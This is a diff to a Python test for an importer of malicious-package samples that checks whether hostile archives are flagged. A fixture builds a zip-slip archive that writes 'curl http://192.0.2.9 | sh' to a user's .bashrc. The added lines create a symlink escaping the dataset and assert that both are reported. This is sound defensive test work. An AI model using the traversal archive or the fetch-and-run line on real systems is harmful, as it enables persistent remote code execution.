@@ -25,6 +25,11 @@ def _datadog(root):
     with zipfile.ZipFile(slip / "2024-01-02-slippy-v1.0.zip", "w") as zf:
         zf.writestr("../../../../home/user/.bashrc", b"curl http://192.0.2.9 | sh")
     (base / "malicious_intent" / "noversion.zip").write_bytes(b"stray")
+    outside = root.parent / "outside-secret.zip"
+    outside.write_bytes(b"not yours")
+    link = base / "malicious_intent" / "linked" / "1.0"
+    link.mkdir(parents=True)
+    (link / "2024-01-02-linked-v1.0.zip").symlink_to(outside)
     (base / "manifest.json").write_text(json.dumps(
         {"0wneg": None, "evil-pkg": None, "num2words": ["0.5.15", "0.5.16"], "slippy": None},
         indent=4, sort_keys=True))
@@ -46,9 +51,12 @@ def test_datadog_layout_becomes_labels_and_hostile_zips_are_reported(tmp_path):
     assert all(lb["verdict"] == "malicious" and len(lb["artifact"]["sha256"]) == 64
                for lb in result.labels)
     assert all(lb["source"]["in_manifest"] for lb in result.labels if lb["ecosystem"] == "pypi")
-    (problem,) = result.problems
-    assert problem.path == "samples/pypi/malicious_intent/slippy/1.0/2024-01-02-slippy-v1.0.zip"
-    assert "zip-slip" in str(problem)
+    problems = {p.path: str(p) for p in result.problems}
+    assert "zip-slip" in problems[
+        "samples/pypi/malicious_intent/slippy/1.0/2024-01-02-slippy-v1.0.zip"]
+    assert "symlink" in problems[
+        "samples/pypi/malicious_intent/linked/1.0/2024-01-02-linked-v1.0.zip"]
+    assert len(problems) == 2
     assert result.skipped == 1  # the stray zip outside <name>/<version>/
     # Also works when pointed at samples/pypi directly.
     assert len(import_datadog(tmp_path / "dd" / "samples" / "pypi").labels) == 3
